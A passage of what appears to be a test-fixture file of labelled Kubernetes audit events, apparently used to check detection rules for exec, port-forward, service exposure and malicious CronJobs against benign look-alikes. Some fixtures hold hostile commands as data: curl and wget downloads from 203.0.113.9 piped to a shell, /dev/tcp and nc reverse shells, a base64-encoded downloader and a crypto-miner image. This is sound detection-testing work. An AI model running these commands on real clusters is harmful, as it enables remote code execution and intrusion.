  { rule: 'KA-STATIC-009', what: 'a developer\'s unpinned pod refused by RBAC', event: { ...dev, ...create('Pod', 'tmp', 'web-frontend', {}, { level: 'Request', code: 403 }) } },
  { what: 'the job controller creating a pod', event: { ...controller('job-controller'), ...create('Pod', 'ledger-reconcile-2890-x', 'payments', { restartPolicy: 'Never' }) } },

  // ---------------------------------------------------------------- command_execution
  { gt: 'command_execution', what: 'a websocket exec (get) logged at Metadata', event: { ...oidc, ...stream('exec', 'ledger-db-0', 'payments', cmd('sh'), 'get', 101, 'Metadata') } },
  { gt: 'command_execution', what: 'an attach (SPDY create) by the kubeadm admin', event: { ...kubeAdmin, ...stream('attach', 'ledger-db-0', 'payments', 'container=db&stdin=true&stdout=true&tty=true', 'create', 101) } },
  { gt: 'command_execution', what: 'an exec through nodes/proxy to the kubelet\'s /exec', event: { ...mallory, ...proxy('nodes', 'node-1', undefined, 'exec/payments/ledger-db-0/db?command=id&output=1&error=1', 'create', 101) } },
  { gt: 'command_execution', what: 'the kubelet\'s /run through nodes/proxy (POST)', event: { ...stolenOutside, ...proxy('nodes', 'node-1', undefined, 'run/kube-system/etcd-cp-1/etcd?cmd=ls', 'create', 200) } },
  { gt: 'command_execution', what: 'the kubelet\'s /runningpods listed through nodes/proxy', event: { ...podToken, ...proxy('nodes', 'node-2', undefined, 'runningpods/', 'get', 200) } },
  { gt: 'command_execution', what: 'a websocket exec refused by RBAC', event: { ...mallory, ...stream('exec', 'ledger-db-0', 'payments', cmd('sh'), 'get', 403) } },
  { gt: 'command_execution', what: 'an exec the kubelet could not be reached for (500)', event: { ...oidc, ...stream('exec', 'ledger-db-0', 'payments', cmd('id'), 'create', 500) } },
  { gt: 'command_execution', what: 'an exec with an invalid token (401, ResponseStarted)', event: { ...stream('exec', 'ledger-db-0', 'payments', cmd('sh'), 'create', 401, 'Metadata'), ...invalidToken } },
  { gt: 'command_execution', what: 'an exec into a pod that does not exist (404)', event: { ...stolenOutside, ...stream('exec', 'report-gen-0', 'payments', cmd('sh'), 'create', 404) } },
  { gt: 'command_execution', what: 'an anonymous exec refused', event: { ...anonymous, ...stream('exec', 'ledger-db-0', 'payments', cmd('id'), 'get', 403) } },
  { gt: 'command_execution', what: 'an exec into kube-system by a managed-cluster admin', event: { ...eksAdmin, ...stream('exec', 'coredns-5d78c9869d-x2', 'kube-system', cmd('cat /etc/coredns/Corefile'), 'create', 101) } },
  { gt: 'command_execution', what: 'a nodes/proxy exec refused', event: { ...mallory, ...proxy('nodes', 'node-1', undefined, 'exec/payments/ledger-db-0/db?command=id', 'create', 403) } },
  { gt: 'command_execution', what: 'a websocket exec logged only when it started (ResponseStarted)', event: { ...stolenOutside, ...stream('exec', 'report-gen-d7d67cfb6-tbqjw', 'payments', cmd('sh'), 'get', 101), stage: 'ResponseStarted' } },
  { gt: 'command_execution', what: 'the kubelet\'s /configz through nodes/proxy with the port in the name', event: { ...mallory, ...proxy('nodes', 'node-1:10250', undefined, 'configz', 'get', 200) } },
  // benign look-alikes
  { what: 'kubectl logs by a developer', event: { ...dev, ...write('get', 'pods', 'payments', 'ledger-api-5c7d-x2', { sub: 'log', level: 'Request', query: 'container=app&follow=true' }) } },
  { what: 'Prometheus scraping cAdvisor through nodes/proxy', event: { ...sa('monitoring', 'prometheus-k8s', 'Prometheus/2.48.0'), ...proxy('nodes', 'node-1', undefined, 'metrics/cadvisor', 'get', 200) } },
  { what: 'metrics-server reading a node\'s stats', event: { ...sa('kube-system', 'metrics-server'), ...write('get', 'nodes', undefined, 'node-1', { sub: 'stats', level: 'Request' }) } },
  { what: 'the API server\'s own readiness check', event: { user: { username: 'system:apiserver', groups: ['system:masters'] }, sourceIPs: ['127.0.0.1'], userAgent: 'kube-apiserver/v1.26.1 (linux/amd64) kubernetes/8f94681', verb: 'get', requestURI: '/readyz', objectRef: undefined, level: 'Metadata' } },
  { what: 'a developer reading a pod', event: { ...dev, ...write('get', 'pods', 'payments', 'ledger-api-5c7d-x2', { level: 'Request' }) } },

  // ---------------------------------------------------------------- port_forward
  { gt: 'port_forward', what: 'a websocket port-forward (get) logged at Metadata', event: { ...oidc, ...stream('portforward', 'ledger-db-0', 'payments', 'ports=5432', 'get', 101, 'Metadata') } },
  { gt: 'port_forward', what: 'an SPDY port-forward into kube-system by the AKS admin', event: { ...aksAdmin, ...stream('portforward', 'etcd-cp-1', 'kube-system', '', 'create', 101) } },
  { gt: 'port_forward', what: 'a port-forward refused by RBAC', event: { ...mallory, ...stream('portforward', 'ledger-db-0', 'payments', 'ports=5432', 'create', 403) } },
  { gt: 'port_forward', what: 'a port-forward the kubelet could not serve (500)', event: { ...stolenOutside, ...stream('portforward', 'ledger-db-0', 'payments', 'ports=5432', 'get', 500) } },
  { gt: 'port_forward', rule: 'KA-EXEC-006', what: 'a service reached through services/proxy', event: { ...mallory, ...proxy('services', 'ledger-db:5432', 'payments', '', 'get', 200) } },
  { gt: 'port_forward', what: 'a pod\'s admin port reached through pods/proxy over https', event: { ...stolenOutside, ...proxy('pods', 'https:ledger-api-5c7d-x2:8443', 'payments', 'admin/config', 'get', 200) } },
  { gt: 'port_forward', what: 'the kubelet\'s /portForward through nodes/proxy', event: { ...mallory, ...proxy('nodes', 'node-1', undefined, 'portForward/payments/ledger-db-0?port=5432', 'create', 101) } },
  { gt: 'port_forward', what: 'a port-forward with an invalid token (401, ResponseStarted)', event: { ...stream('portforward', 'ledger-db-0', 'payments', 'ports=5432', 'create', 401, 'Metadata'), ...invalidToken } },
  { gt: 'port_forward', what: 'an anonymous pods/proxy request refused', event: { ...anonymous, ...proxy('pods', 'ledger-db-0:5432', 'payments', '', 'get', 403) } },
  // benign look-alikes
  { rule: 'KA-EXEC-006', what: 'the autoscaler reading metrics through services/proxy', event: { ...controller('horizontal-pod-autoscaler'), ...proxy('services', 'http:heapster:', 'kube-system', 'apis/metrics/v1alpha1/namespaces/payments/pods', 'get', 200) } },
  { what: 'kube-proxy listing Services', event: { user: { username: 'system:kube-proxy', groups: ['system:authenticated'] }, sourceIPs: ['127.0.0.51'], userAgent: 'kube-proxy/v1.26.1 (linux/amd64) kubernetes/8f94681', ...write('list', 'services', undefined, '', { level: 'Request' }), objectRef: { resource: 'services', apiVersion: 'v1' } } },
  { what: 'a developer reading a Service', event: { ...dev, ...write('get', 'services', 'payments', 'ledger-db', { level: 'Request' }) } },
  { what: 'the endpoint-slice controller updating an EndpointSlice', event: { ...controller('endpointslice-controller'), ...write('update', 'endpointslices', 'payments', 'ledger-db-x2', { level: 'Request', body: { kind: 'EndpointSlice', apiVersion: 'discovery.k8s.io/v1', metadata: { name: 'ledger-db-x2' }, addressType: 'IPv4', endpoints: [] } }) } },

  // ---------------------------------------------------------------- nodeport_service
  { gt: 'nodeport_service', what: 'a LoadBalancer Service created', event: { ...oidc, ...write('create', 'services', 'payments', 'ledger-db-lb', { body: service('ledger-db-lb', 'payments', { type: 'LoadBalancer' }) }) } },
  { gt: 'nodeport_service', what: 'a Service replaced (PUT) as NodePort, at level Request', event: { ...mallory, ...write('update', 'services', 'payments', 'ledger-db', { level: 'Request', body: service('ledger-db', 'payments', { type: 'NodePort' }) }) } },
  { gt: 'nodeport_service', what: 'a strategic-merge patch to LoadBalancer', event: { ...stolenOutside, ...write('patch', 'services', 'payments', 'ledger-db', { level: 'Request', body: { spec: { type: 'LoadBalancer' } } }) } },
  { gt: 'nodeport_service', what: 'a merge patch adding externalIPs', event: { ...mallory, ...write('patch', 'services', 'default', 'kubernetes-dash', { level: 'Request', body: { spec: { externalIPs: ['198.51.100.200'] } } }) } },
  { gt: 'nodeport_service', what: 'a JSON patch adding externalIPs', event: { ...oidc, ...write('patch', 'services', 'payments', 'ledger-db', { level: 'Request', body: [{ op: 'add', path: '/spec/externalIPs', value: ['198.51.100.200'] }] }) } },
  { gt: 'nodeport_service', what: 'a JSON patch setting a nodePort', event: { ...mallory, ...write('patch', 'services', 'payments', 'ledger-db', { level: 'Request', body: [{ op: 'replace', path: '/spec/type', value: 'NodePort' }, { op: 'add', path: '/spec/ports/0/nodePort', value: 31337 }] }) } },
  { gt: 'nodeport_service', what: 'a server-side apply of a NodePort Service in kube-system', event: { ...kubeAdmin, ...write('patch', 'services', 'kube-system', 'etcd-metrics', { query: ssa, code: 201, body: service('etcd-metrics', 'kube-system', { type: 'NodePort', ports: [{ port: 2379, nodePort: 32379 }] }) }) } },
  { gt: 'nodeport_service', rule: 'KA-EXPOSE-007', what: 'a pod binding a host port', event: { ...stolenOutside, ...create('Pod', 'relay', 'payments', { containers: [{ name: 'r', image: 'docker.io/alpine/socat:1.7.4', args: ['TCP-LISTEN:8080,fork', 'TCP:ledger-db:5432'], ports: [{ containerPort: 8080, hostPort: 30080 }] }] }) } },
  { gt: 'nodeport_service', what: 'a JSON patch adding a host port to a Deployment', event: { ...mallory, ...write('patch', 'deployments', 'storefront', 'cart', { level: 'Request', body: [{ op: 'add', path: '/spec/template/spec/containers/0/ports/-', value: { containerPort: 2379, hostPort: 2379 } }] }) } },
  { gt: 'nodeport_service', rule: 'KA-EXPOSE-008', what: 'a NodePort Service refused by RBAC, with its body', event: { ...mallory, ...write('create', 'services', 'payments', 'ledger-db-np', { level: 'Request', code: 403, body: service('ledger-db-np', 'payments', { type: 'NodePort' }) }) } },
  { gt: 'nodeport_service', what: 'a NodePort Service refused for a port already allocated (422)', event: { ...oidc, ...write('create', 'services', 'payments', 'ledger-db-np', { level: 'Request', code: 422, message: 'Service "ledger-db-np" is invalid: spec.ports[0].nodePort: Invalid value: 31337: provided port is already allocated', body: service('ledger-db-np', 'payments', { type: 'NodePort', ports: [{ port: 5432, nodePort: 31337 }] }) }) } },
  // benign look-alikes
  { rule: 'KA-EXPOSE-008', what: 'a ClusterIP Service refused by RBAC', event: { ...dev, ...write('create', 'services', 'web-frontend', 'api', { level: 'Request', code: 403, body: service('api', 'web-frontend', { type: 'ClusterIP' }) }) } },
  { what: 'the API server keeping default/kubernetes', event: { user: { username: 'system:apiserver', groups: ['system:masters'] }, sourceIPs: ['127.0.0.1'], ...write('update', 'services', 'default', 'kubernetes', { body: service('kubernetes', 'default', { type: 'ClusterIP' }) }) } },
  { what: 'a developer\'s ClusterIP Service', event: { ...dev, ...write('create', 'services', 'payments', 'ledger-api', { body: service('ledger-api', 'payments', { type: 'ClusterIP' }) }) } },
  { what: 'a label patch of a NodePort Service', event: { ...dev, ...write('patch', 'services', 'payments', 'ledger-db', { body: { metadata: { labels: { tier: 'db' } } }, response: service('ledger-db', 'payments', { type: 'NodePort' }) }) } },
  { what: 'the cloud controller writing a LoadBalancer\'s status', event: { user: { username: 'system:cloud-controller-manager', groups: ['system:authenticated'] }, sourceIPs: ['10.0.0.10'], ...write('patch', 'services', 'ingress-nginx', 'ingress-nginx-controller', { sub: 'status', body: { status: { loadBalancer: { ingress: [{ ip: '203.0.113.80' }] } } } }) } },
  { rule: 'KA-EXPOSE-007', what: 'a developer\'s container port without a host port', event: { ...dev, ...create('Deployment', 'ledger-api', 'payments', { containers: [{ name: 'app', image: 'ghcr.io/corp/ledger-api:1.8.2', ports: [{ containerPort: 8080 }] }] }) } },

  // ---------------------------------------------------------------- suspicious_cronjob
  { gt: 'suspicious_cronjob', what: 'a batch/v1beta1 CronJob piping curl to bash', event: { ...mallory, ...cronJobV1beta1(create('CronJob', 'log-rotate', 'payments', shell('curl -s http://203.0.113.9/r.sh | bash'))) } },
  { gt: 'suspicious_cronjob', what: 'a plain Job with a reverse shell through /dev/tcp', event: { ...stolenOutside, ...create('Job', 'db-migrate', 'payments', shell('bash -i >& /dev/tcp/203.0.113.9/443 0>&1')) } },
  { gt: 'suspicious_cronjob', what: 'a JSON patch replacing a CronJob\'s command with a downloader, at level Request', event: { ...oidc, ...write('patch', 'cronjobs', 'payments', 'ledger-reconcile', { level: 'Request', body: [{ op: 'replace', path: '/spec/jobTemplate/spec/template/spec/containers/0/args', value: ['wget -qO- http://203.0.113.9/s2 | sh'] }] }) } },
  { gt: 'suspicious_cronjob', rule: 'KA-CRON-007', what: 'a suspended CronJob\'s template changed and resumed', event: { ...mallory, ...write('patch', 'cronjobs', 'storefront', 'sitemap-refresh', { level: 'Request', body: { spec: { suspend: false, jobTemplate: { spec: { template: { spec: { containers: [{ name: 'job', image: 'docker.io/library/python:3.12-slim' }] } } } } } } }) } },
  { gt: 'suspicious_cronjob', what: 'an every-minute CronJob in kube-system by a pod token used from outside', event: { ...stolenOutside, ...write('create', 'cronjobs', 'kube-system', 'node-gc', { body: cronJob('node-gc', 'kube-system', '* * * * *', {}) }) } },
  { gt: 'suspicious_cronjob', what: 'a server-side apply of a CronJob every minute', event: { ...eksAdmin, ...write('patch', 'cronjobs', 'default', 'sync', { level: 'Request', query: ssa, code: 201, body: cronJob('sync', 'default', '*/1 * * * *', {}) }) } },
  { gt: 'suspicious_cronjob', what: 'a CronJob decoding a base64 payload', event: { ...podToken, ...create('CronJob', 'cleanup', 'payments', shell('echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvbSB8IHNo | base64 -d | sh')) } },
  { gt: 'suspicious_cronjob', what: 'a CronJob with a miner image', event: { ...aksAdmin, ...create('CronJob', 'thumbs', 'web-frontend', { containers: [{ name: 'x', image: 'docker.io/metal3d/xmrig:latest' }] }) } },
  { gt: 'suspicious_cronjob', what: 'a CronJob create refused by RBAC, at Metadata', event: { ...mallory, ...create('CronJob', 'x', 'kube-system', {}, { level: 'Metadata', code: 403 }) } },
  { gt: 'suspicious_cronjob', what: 'a CronJob replaced (PUT) with the host\'s root mounted, at level Request', event: { ...oidc, ...write('update', 'cronjobs', 'payments', 'ledger-reconcile', { level: 'Request', body: objectOf('CronJob', 'ledger-reconcile', 'payments', hostPath('/')) }) } },
  { gt: 'suspicious_cronjob', what: 'a CronJob in kube-node-lease', event: { ...kubeAdmin, ...create('CronJob', 'lease-gc', 'kube-node-lease', {}) } },
  { gt: 'suspicious_cronjob', what: 'a CronJob opening a reverse shell with nc, suspended at creation', event: { ...mallory, ...write('create', 'cronjobs', 'payments', 'report', { level: 'Request', body: cronJob('report', 'payments', '0 * * * *', { containers: [{ name: 'r', image: 'docker.io/library/busybox:1.36', command: ['nc', '203.0.113.9', '4444', '-e', '/bin/sh'] }] }, { suspend: true }) }) } },
  // benign look-alikes
  { what: 'a developer\'s nightly backup CronJob', event: { ...dev, ...create('CronJob', 'pg-backup', 'payments', shell('pg_dump -h ledger-db ledger | gzip > /backup/ledger-$(date +%F).sql.gz')) } },
  { what: 'the CronJob controller creating a Job', event: { ...controller('cronjob-controller'), ...create('Job', 'ledger-reconcile-28901234', 'payments', shell('/app/reconcile --since 2m')) } },
  { rule: 'KA-CRON-007', what: 'a developer suspending a CronJob', event: { ...dev, ...write('patch', 'cronjobs', 'payments', 'ledger-reconcile', { body: { spec: { suspend: true } } }) } },
  { what: 'a CI deployer\'s CronJob with a curl health check every 5 minutes', event: { ...ci, ...write('create', 'cronjobs', 'ci', 'ping', { body: cronJob('ping', 'ci', '*/5 * * * *', shell('curl -fsS http://web.storefront.svc/healthz')) }) } },
  { what: 'the EKS add-on manager\'s CronJob in kube-system', event: { user: { username: 'eks:addon-manager', groups: ['system:authenticated'] }, sourceIPs: ['52.94.133.131'], ...create('CronJob', 'aws-node-cleanup', 'kube-system', {}) } },
  { what: 'a Job installing packages with a download piped to a file', event: { ...dev, ...create('Job', 'seed', 'payments', shell('curl -fsSLo /tmp/seed.sql https://assets.corp.example/seed.sql && psql -f /tmp/seed.sql')) } },
];
